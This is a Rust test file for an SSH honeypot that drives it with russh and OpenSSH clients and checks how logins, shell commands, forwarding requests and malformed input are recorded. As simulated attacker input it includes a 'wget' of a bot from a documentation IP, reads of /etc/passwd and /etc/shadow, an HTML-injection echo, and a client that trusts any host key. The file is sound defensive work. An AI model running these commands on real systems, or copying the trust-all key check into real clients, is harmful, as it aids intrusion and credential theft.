//! The SSH honeypot, met by russh's client and by OpenSSH's.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::{borrow::Cow, sync::Arc, time::Duration};

use common::{
    Pot, attributes, bytes, command, commands, contains, login, none,
    openssh::{ssh, ssh_as},
};
use russh::{
    ChannelMsg, Disconnect,
    client::{self, AuthResult, Config, Handle, KeyboardInteractiveAuthResponse},
    keys::{
        HashAlg, PrivateKey, PrivateKeyWithHashAlg, PublicKeyOrCertificate,
        ssh_key::private::Ed25519Keypair,
    },
};
use serde_json::json;
use skep_honeypots::record::Report;
use skep_model::{Bytes, Direction, InteractionKind, LoginMethod};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

struct Trusting;

impl client::Handler for Trusting {
    type Error = russh::Error;

    async fn check_server_key(&mut self, _: &PublicKeyOrCertificate) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

async fn connect(pot: &Pot) -> Handle<Trusting> {
    let config = Config {
        client_id: russh::SshId::Standard(Cow::Borrowed("SSH-2.0-Go")),
        ..Config::default()
    };
    client::connect(Arc::new(config), pot.address(), Trusting)
        .await
        .unwrap()
}

async fn leave(session: Handle<Trusting>) {
    session
        .disconnect(Disconnect::ByApplication, "", "")
        .await
        .unwrap();
}

async fn started(pot: &mut Pot) {
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    assert_eq!(
        pot.step().await,
        InteractionKind::Banner {
            text: "SSH-2.0-Go".into()
        }
    );
}

#[tokio::test]
async fn every_way_to_log_in_is_recorded_as_it_happens() {
    let mut pot = Pot::start("ssh", json!({"delay": 1})).await;
    let mut session = connect(&pot).await;
    started(&mut pot).await;
    assert!(
        !session
            .authenticate_password("root", "wrong")
            .await
            .unwrap()
            .success()
    );
    assert_eq!(
        pot.step().await,
        login("root", "wrong", LoginMethod::Password, false)
    );

    let key = PrivateKey::from(Ed25519Keypair::from_seed(&[9; 32]));
    let fingerprint = key.fingerprint(HashAlg::Sha256).to_string();
    let key = PrivateKeyWithHashAlg::new(Arc::new(key), None);
    assert!(
        !session
            .authenticate_publickey("admin", key)
            .await
            .unwrap()
            .success()
    );
    assert_eq!(
        pot.step().await,
        login("admin", &fingerprint, LoginMethod::Key, false)
    );
    assert!(fingerprint.starts_with("SHA256:"));

    for (answer, accepted) in [("nope", false), ("raspberry", true)] {
        let asked = session
            .authenticate_keyboard_interactive_start("pi", None)
            .await
            .unwrap();
        assert!(
            matches!(asked, KeyboardInteractiveAuthResponse::InfoRequest { prompts, .. } if prompts.len() == 1)
        );
        let result = session
            .authenticate_keyboard_interactive_respond(vec![answer.to_owned()])
            .await
            .unwrap();
        assert_eq!(
            matches!(result, KeyboardInteractiveAuthResponse::Success),
            accepted
        );
        assert_eq!(
            pot.step().await,
            login("pi", answer, LoginMethod::Interactive, accepted)
        );
    }
    leave(session).await;
    let steps = pot.rest().await;
    assert!(
        matches!(steps.last(), Some(InteractionKind::Close { reason, .. }) if reason == "closed by the source")
    );
}

#[tokio::test]
async fn guessing_ends_after_six_tries() {
    let mut pot = Pot::start("ssh", json!({"delay": 0})).await;
    let mut session = connect(&pot).await;
    for n in 0..6 {
        match session
            .authenticate_password("root", format!("guess{n}"))
            .await
        {
            Ok(AuthResult::Success) => panic!("let in"),
            Ok(AuthResult::Failure { .. }) => assert!(n < 6),
            Err(_) => assert_eq!(n, 5),
        }
    }
    assert!(session.authenticate_password("root", "root").await.is_err());
    started(&mut pot).await;
    let steps = pot.rest().await;
    let tries = steps
        .iter()
        .filter(|kind| matches!(kind, InteractionKind::Login { .. }))
        .count();
    assert_eq!(tries, 6);
    assert!(
        matches!(steps.last(), Some(InteractionKind::Close { reason, .. }) if reason == "too many wrong passwords")
    );
}

#[tokio::test]
async fn commands_in_a_terminal_are_recorded_before_their_output_is_sent() {
    let mut pot = Pot::start("ssh", json!({"delay": 1, "hostname": "gate"})).await;
    let mut session = connect(&pot).await;
    started(&mut pot).await;
    assert!(
        session
            .authenticate_password("root", "root")
            .await
            .unwrap()
            .success()
    );
    assert_eq!(
        pot.step().await,
        login("root", "root", LoginMethod::Password, true)
    );
    let mut channel = session.channel_open_session().await.unwrap();
    channel.set_env(true, "LC_EVIL", "1").await.unwrap();
    channel
        .request_pty(true, "xterm", 132, 43, 0, 0, &[])
        .await
        .unwrap();
    channel.request_shell(true).await.unwrap();
    let mut seen = vec![];
    let mut until = async |text: &[u8], channel: &mut russh::Channel<client::Msg>| {
        while !contains(&seen, text) {
            let message = timeout(Duration::from_secs(10), channel.wait())
                .await
                .expect("output in time");
            if let ChannelMsg::Data { data } = message.expect("an open channel") {
                seen.extend_from_slice(&data);
            }
        }
        std::mem::take(&mut seen)
    };
    until(b"root@gate:~# ", &mut channel).await;
    for key in b"whoanx\x7f\x7fmi\x1b[D" {
        channel.data([*key].as_slice()).await.unwrap();
    }
    channel.data(b"\r".as_slice()).await.unwrap();
    assert_eq!(pot.deed().await, command("whoami"));
    let shown = until(b"root@gate:~# ", &mut channel).await;
    assert!(contains(&shown, b"\r\nroot\r\n"));
    let hostile = b"echo '\xfe\x01<img src=x onerror=alert(1)>\xe2\x80\xae'".as_slice();
    channel
        .data([hostile, b"\rexit 3\r"].concat().as_slice())
        .await
        .unwrap();
    assert_eq!(pot.deed().await, command(hostile));
    let mut status = None;
    while let Some(message) = timeout(Duration::from_secs(10), channel.wait())
        .await
        .unwrap()
    {
        if let ChannelMsg::ExitStatus { exit_status } = message {
            status = Some(exit_status);
        }
    }
    assert_eq!(status, Some(3));
    leave(session).await;
    let steps = pot.rest().await;
    assert_eq!(commands(&steps), [b"exit 3"]);
    assert!(contains(&bytes(&steps, Direction::Out), b"logout\r\n"));
}

#[tokio::test]
async fn what_is_not_offered_is_refused_and_noted() {
    let mut pot = Pot::start("ssh", json!({"delay": 0})).await;
    let mut session = connect(&pot).await;
    assert!(
        session
            .authenticate_password("admin", "admin")
            .await
            .unwrap()
            .success()
    );
    assert!(
        session
            .channel_open_direct_tcpip("192.0.2.1", 25, "127.0.0.1", 1)
            .await
            .is_err()
    );
    assert!(session.tcpip_forward("0.0.0.0", 8080).await.is_err());
    let mut channel = session.channel_open_session().await.unwrap();
    channel.request_subsystem(true, "netconf").await.unwrap();
    let refused = async {
        while let Some(message) = channel.wait().await {
            if matches!(message, ChannelMsg::Failure) {
                return true;
            }
        }
        false
    };
    assert!(timeout(Duration::from_secs(10), refused).await.unwrap());
    leave(session).await;
    started(&mut pot).await;
    let steps = pot.rest().await;
    assert_eq!(attributes(&steps, "forward"), [b"192.0.2.1:25"]);
    assert_eq!(attributes(&steps, "remote_forward"), [b"0.0.0.0:8080"]);
    assert_eq!(attributes(&steps, "subsystem"), [b"netconf"]);
}

#[tokio::test]
async fn what_is_no_ssh_is_recorded_too() {
    let mut pot = Pot::start("ssh", none()).await;
    let mut stream = TcpStream::connect(pot.address()).await.unwrap();
    stream
        .write_all(b"GET /\xff HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut answer = vec![];
    let _ = stream.read_to_end(&mut answer).await;
    assert!(answer.starts_with(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n"));
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    assert_eq!(
        pot.step().await,
        InteractionKind::Banner {
            text: b"GET /\xff HTTP/1.1".into()
        }
    );
    let steps = pot.rest().await;
    assert!(
        matches!(steps.last(), Some(InteractionKind::Close { reason, .. }) if reason == "no SSH client")
    );
}

#[tokio::test]
async fn openssh_with_a_wrong_password_is_refused() {
    let mut pot = Pot::start("ssh", json!({"delay": 10})).await;
    let output = ssh(&pot, "root", "letmein", &["id"])
        .output()
        .await
        .expect("ssh and sshpass are installed");
    assert_eq!(output.status.code(), Some(5));
    pot.opened().await;
    let steps = pot.rest().await;
    assert!(steps.contains(&login("root", "letmein", LoginMethod::Interactive, false)));
    assert!(
        matches!(&steps[1], InteractionKind::Banner { text } if text.0.starts_with(b"SSH-2.0-OpenSSH"))
    );
}

#[tokio::test]
async fn names_and_passwords_that_are_no_text_are_recorded_exactly() {
    let mut pot = Pot::start("ssh", json!({"delay": 10})).await;
    let user = b"gr\xfc\xdfe\xff";
    let secret = b"\xff\xfe\x80\"<b>\xc3\x28\xf4\x8f\xbf\xbf";
    for (option, method) in [
        ("-oPreferredAuthentications=password", LoginMethod::Password),
        (
            "-oPreferredAuthentications=keyboard-interactive",
            LoginMethod::Interactive,
        ),
    ] {
        let output = ssh_as(&pot, user, secret, &[option, "id"])
            .output()
            .await
            .unwrap();
        assert_eq!(output.status.code(), Some(5), "{output:?}");
        pot.opened().await;
        let steps = pot.rest().await;
        let tried = InteractionKind::Login {
            user: Bytes(user.to_vec()),
            secret: Bytes(secret.to_vec()),
            method,
            accepted: false,
        };
        assert!(steps.contains(&tried), "{steps:?}");
    }
}

#[tokio::test]
async fn openssh_runs_a_command_and_gets_its_status() {
    let mut pot = Pot::start("ssh", json!({"delay": 10})).await;
    let output = ssh(&pot, "root", "123456", &["whoami; cat /etc/none; exit 4"])
        .output()
        .await
        .unwrap();
    assert_eq!(output.status.code(), Some(4));
    assert_eq!(
        String::from_utf8_lossy(&output.stdout),
        "root\ncat: /etc/none: No such file or directory\n"
    );
    pot.opened().await;
    let steps = pot.rest().await;
    assert!(steps.contains(&login("root", "123456", LoginMethod::Interactive, true)));
    assert_eq!(commands(&steps), [b"whoami; cat /etc/none; exit 4"]);
}

#[tokio::test]
async fn openssh_sends_a_file_to_a_command() {
    let mut pot = Pot::start("ssh", json!({"delay": 10})).await;
    let mut child = ssh(&pot, "root", "root", &["cat > /tmp/x; wc -c /tmp/x"])
        .spawn()
        .unwrap();
    let payload: Vec<u8> = (0..100_000u32).map(|n| n as u8).collect();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(&payload)
        .await
        .unwrap();
    let output = child.wait_with_output().await.unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout), "100000 /tmp/x\n");
    pot.opened().await;
    let steps = pot.rest().await;
    assert_eq!(bytes(&steps, Direction::In), payload);
}

#[tokio::test]
async fn openssh_with_a_terminal_shows_each_command_while_it_is_open() {
    let mut pot = Pot::start("ssh", json!({"delay": 10, "hostname": "gate"})).await;
    let mut child = ssh(&pot, "pi", "raspberry", &["-tt"]).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    assert!(matches!(pot.step().await, InteractionKind::Banner { .. }));
    assert_eq!(
        pot.deed().await,
        login("pi", "raspberry", LoginMethod::Interactive, true)
    );
    for line in [
        "uname -a",
        "cat /etc/passwd | grep pi",
        "wget http://192.0.2.7/bot",
    ] {
        input
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
        assert_eq!(pot.deed().await, command(line));
        assert!(child.try_wait().unwrap().is_none(), "the session is open");
    }
    input.write_all(b"exit\n").await.unwrap();
    let output = child.wait_with_output().await.unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(shown.contains("pi@gate:~$ "), "{shown}");
    assert!(shown.contains("Linux gate 5.15.0"), "{shown}");
    let steps = pot.rest().await;
    assert_eq!(attributes(&steps, "url"), [b"http://192.0.2.7/bot"]);
}

#[tokio::test]
async fn openssh_with_a_terminal_types_a_file_into_cat() {
    let mut pot = Pot::start("ssh", none()).await;
    let mut child = ssh(&pot, "pi", "raspberry", &["-tt"]).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    input
        .write_all(b"cat > note\nrm -rf nothing\n\x04cat note\nexit\n")
        .await
        .unwrap();
    let output = child.wait_with_output().await.unwrap();
    assert!(contains(&output.stdout, b"cat note\r\nrm -rf nothing\r\n"));
    pot.opened().await;
    let steps = pot.rest().await;
    assert_eq!(
        commands(&steps),
        [b"cat > note".as_slice(), b"cat note", b"exit"]
    );
    assert!(contains(&bytes(&steps, Direction::In), b"rm -rf nothing"));
}

#[tokio::test]
async fn leaving_a_shell_of_root_leads_back_to_the_user() {
    let mut pot = Pot::start("ssh", json!({"hostname": "gate"})).await;
    let mut child = ssh(&pot, "pi", "raspberry", &["-tt"]).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    let lines =
        b"su\nsudo su\nwhoami; cat /etc/shadow | grep -c root\ncd /tmp\nexit\nsudo -i\n\x04\
        sudo id -u\nid -u; cat /etc/shadow\nexit\n";
    input.write_all(lines).await.unwrap();
    let output = child.wait_with_output().await.unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    let mut rest = shown.as_ref();
    for wanted in [
        "pi@gate:~$ su\r\nPassword: \r\nsu: Authentication failure\r\npi@gate:~$ ",
        "sudo su\r\nroot@gate:/home/pi# ",
        "root\r\n1\r\nroot@gate:/home/pi# ",
        "cd /tmp\r\nroot@gate:/tmp# ",
        "exit\r\nexit\r\npi@gate:~$ ",
        "sudo -i\r\nroot@gate:~# ",
        "logout\r\npi@gate:~$ ",
        "sudo id -u\r\n0\r\npi@gate:~$ ",
        "1000\r\ncat: /etc/shadow: Permission denied\r\npi@gate:~$ ",
        "exit\r\nlogout\r\n",
    ] {
        let at = rest.find(wanted);
        let at = at.unwrap_or_else(|| panic!("{wanted:?} is missing in {rest:?}"));
        rest = &rest[at + wanted.len()..];
    }
    pot.opened().await;
    let steps = pot.rest().await;
    assert_eq!(commands(&steps).len(), 9);
}

#[tokio::test]
async fn a_client_that_floods_and_never_reads_keeps_nobody_else_waiting() {
    let pot = Pot::start("ssh", json!({"delay": 0})).await;
    let mut flooding = ssh(&pot, "root", "root", &["-tt"]).spawn().unwrap();
    let mut input = flooding.stdin.take().unwrap();
    let lines = b"cat /proc/cpuinfo\n".repeat(10_000);
    let mut sent = 0;
    // Until everything between the two is full.
    while timeout(Duration::from_secs(1), input.write_all(&lines))
        .await
        .is_ok()
        && sent < 100
    {
        sent += 1;
    }
    let mut other = connect(&pot).await;
    let result = other.authenticate_password("root", "root").await;
    assert!(result.unwrap().success());
    leave(other).await;
    // Nor does it keep the honeypot from stopping.
    let Pot {
        running,
        mut reports,
    } = pot;
    running.stop().await;
    let mut closed = 0;
    while let Some(report) = timeout(Duration::from_secs(10), reports.recv())
        .await
        .unwrap()
    {
        closed += usize::from(matches!(report, Report::Close { .. }));
    }
    assert_eq!(closed, 2);
}
